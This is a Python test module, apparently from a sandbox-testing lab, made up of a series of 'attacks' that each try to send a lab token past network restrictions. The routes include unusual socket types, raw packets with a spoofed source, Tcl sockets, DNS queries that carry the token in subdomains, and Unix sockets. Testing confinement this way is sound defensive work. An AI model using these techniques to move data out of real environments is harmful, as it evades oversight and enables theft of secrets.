"""Sockets of other kinds, and addresses in other forms. The effect: `lab.token` arrives."""

import os
import select
import socket
import struct

from lab import attack, tcl

CATEGORY = 'network'


def over(lab, connection):
    connection.connect((lab.host, lab.ports.tcp))
    connection.sendall(lab.token.encode())
    connection.close()


def question(*names):
    asked = b''.join(b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + b'\0\0\1\0\1' for name in names)
    return struct.pack('!HHHHHH', 1, 0x100, len(names), 0, 0, 0) + asked


def ask(lab, *names):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question(*names), (lab.nameserver, 53))


@attack('TCP by several paths')
def _(lab):
    over(lab, socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))


@attack('a fast open that waits')
def _(lab):
    connection = socket.socket()
    connection.setsockopt(socket.IPPROTO_TCP, 30, 1)
    over(lab, connection)


@attack('from the address that it goes to')
def _(lab):
    connection = socket.socket()
    connection.bind((lab.host, 0))
    over(lab, connection)


@attack('an IPv4 socket on an IPv6 descriptor')
def _(lab):
    six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 0, os.dup(six.fileno())).sendto(lab.token.encode(), (lab.host, lab.ports.udp))


@attack('a file in memory, sent')
def _(lab):
    connection = socket.socket()
    connection.setblocking(False)
    connection.connect_ex((lab.host, lab.ports.tcp))
    select.select([], [connection], [], 1)
    fd = os.memfd_create('token')
    os.write(fd, lab.token.encode())
    os.sendfile(connection.fileno(), fd, 0, len(lab.token))


@attack('a header of its own, over loopback')
def _(lab):
    payload = lab.token.encode()
    datagram = struct.pack('!HHHH', 4444, lab.ports.udp, 8 + len(payload), 0) + payload
    addresses = socket.inet_aton('203.0.113.20') + socket.inet_aton(lab.host)
    head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0) + addresses
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.connect(('127.0.0.1', 0))
    raw.send(head + datagram)


@attack('Tcl connects')
def _(lab):
    tcl(f'set other [socket {lab.host} {lab.ports.tcp}]; puts $other {lab.token}; flush $other; close $other')


@attack('a question for a name below one that is allowed')
def _(lab):
    ask(lab, f'{lab.token}.{lab.allowedName}')


@attack('two questions at once')
def _(lab):
    ask(lab, lab.allowedName, f'{lab.token}.example.net')


@attack('a name with a canonical one')
def _(lab):
    socket.getaddrinfo(f'{lab.token}.{lab.otherName}', None, flags=socket.AI_CANONNAME | 0x40)


@attack('descriptors for a socket in the file system')
def _(lab):
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(lab.unixSocket)
    socket.send_fds(connection, [lab.token.encode()], [0])


@attack('a socket in the file system, from its folder')
def _(lab):
    os.chdir(os.path.dirname(lab.unixSocket))
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(f'./{os.path.basename(lab.unixSocket)}')
    connection.send(lab.token.encode())
